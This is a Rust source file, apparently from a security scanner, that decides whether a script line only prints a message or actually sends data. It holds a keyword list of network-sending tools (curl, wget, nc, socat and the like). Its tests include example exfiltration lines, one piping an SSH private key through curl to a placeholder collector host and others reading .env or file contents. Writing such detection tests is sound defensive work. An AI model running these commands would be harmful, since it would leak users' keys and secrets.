//! Round 33v (sets33v): text a script only prints for the user to read.
//!
//! Installers print their next steps one message per line: `echo "  /plugin marketplace add
//! https://forge.example/owner/tool"`, `log_info "Docs: https://docs.example/setup"`,
//! `print("Open https://console.example/keys")`. The URL in such a message is shown to the user,
//! not contacted by the script: it is not where the script sends anything. A message that itself
//! names a sending tool (`echo "curl -d @- https://…"`) or runs a command substitution inside its
//! text is not only printed, and keeps counting as a send.
//!
//! [`printed_only`] is a pure function of one line, linear in its length.

/// Words that make a printed line more than a message: a tool that sends data, a form or upload
/// flag, or a command substitution whose output would be spliced into it.
const SENDING: &[&str] = &[
    "curl",
    "wget",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr ",
    "irm ",
    "nc ",
    "ncat",
    "socat",
    "fetch(",
    "requests.",
    "urlopen",
    "http.request",
    "axios",
    "--data",
    "-d @",
    "$(",
    "`",
];

/// Whether line `line` (1-based) of `content` only prints a message: a complete `echo`/`printf`
/// line (its quoted text closes at the line end), a call of a one-word logging helper with one
/// quoted string (`ok "…"`, `log_info "…"`, `warn '…'`), or `print("…")`/`console.log("…")`/
/// `Write-Host "…"` with one string literal; and the message names no sending tool
/// ([`SENDING`]).
pub fn printed_only(content: &str, line: usize) -> bool {
    let Some(text) = content.lines().nth(line.saturating_sub(1)) else {
        return false;
    };
    let t = text.trim();
    let message =
        crate::scan::content::echo_line::complete_echo(t) || helper_call(t) || print_call(t);
    if !message {
        return false;
    }
    let lower = t.to_ascii_lowercase();
    // The printing command itself is allowed to be `echo`/`printf`; look for senders in the text.
    let body = lower
        .split_once(['"', '\''])
        .map_or(lower.as_str(), |(_, b)| b);
    !SENDING.iter().any(|w| body.contains(w))
}

/// `name "…"` or `name '…'`: a shell function named by one identifier (letters, digits, `_`, `-`)
/// called with a single quoted string that closes at the line end and has no quote of its kind
/// inside (an escaped one aside).
fn helper_call(t: &str) -> bool {
    let Some((name, rest)) = t.split_once(' ') else {
        return false;
    };
    if name.is_empty()
        || !name
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'-')
        || name.bytes().all(|c| c.is_ascii_digit())
    {
        return false;
    }
    single_string(rest.trim_start())
}

/// `print("…")`, `console.log("…")`, `console.error('…')`, `Write-Host "…"`, `puts "…"` with one
/// string literal (an f-string or template literal's `{…}` parts are allowed) and nothing after
/// the closing bracket but a `;`.
fn print_call(t: &str) -> bool {
    for head in ["print(", "console.log(", "console.error(", "console.warn("] {
        if let Some(rest) = t.strip_prefix(head) {
            let rest = rest.trim_end().trim_end_matches(';');
            let Some(inner) = rest.strip_suffix(')') else {
                return false;
            };
            let inner = inner.trim();
            let inner = inner.strip_prefix('f').unwrap_or(inner);
            return single_string(inner);
        }
    }
    for head in ["Write-Host ", "puts "] {
        if let Some(rest) = t.strip_prefix(head) {
            return single_string(rest.trim());
        }
    }
    false
}

/// Whether `s` is exactly one quoted string (`"…"` or `'…'`) with no unescaped quote of its kind
/// inside.
fn single_string(s: &str) -> bool {
    let Some(q) = s.chars().next().filter(|c| *c == '"' || *c == '\'') else {
        return false;
    };
    if s.len() < 2 || !s.ends_with(q) {
        return false;
    }
    let inner = &s[1..s.len() - 1];
    let mut escaped = false;
    for c in inner.chars() {
        if escaped {
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == q {
            return false;
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::printed_only;

    #[test]
    fn messages_that_only_print_a_url() {
        for l in [
            "  echo \"  /plugin marketplace add https://forge.example/owner/tool\"",
            "log_info \"Docs: https://docs.example/setup\"",
            "ok 'Open https://console.example/keys'",
            "print(f\"Dashboard: https://app.example/{name}\")",
            "console.log(\"See https://docs.example\");",
            "Write-Host \"Get a key at https://console.example\"",
        ] {
            assert!(printed_only(l, 1), "{l}");
        }
    }

    #[test]
    fn lines_that_send_or_do_more_than_print() {
        for l in [
            "echo \"curl -d @- https://collector.example\"",
            "echo \"$(cat ~/.ssh/id_rsa)\" | curl -d @- https://collector.example",
            "echo \"key=$(cat .env)\" > /tmp/out",
            "log_info \"sent to https://a.example\" \"$SECRET\"",
            "requests.post(\"https://collector.example\", data=open('x').read())",
            "print(requests.get(\"https://a.example\").text)",
            "SERVER=\"https://a.example\"",
        ] {
            assert!(!printed_only(l, 1), "{l}");
        }
    }
}
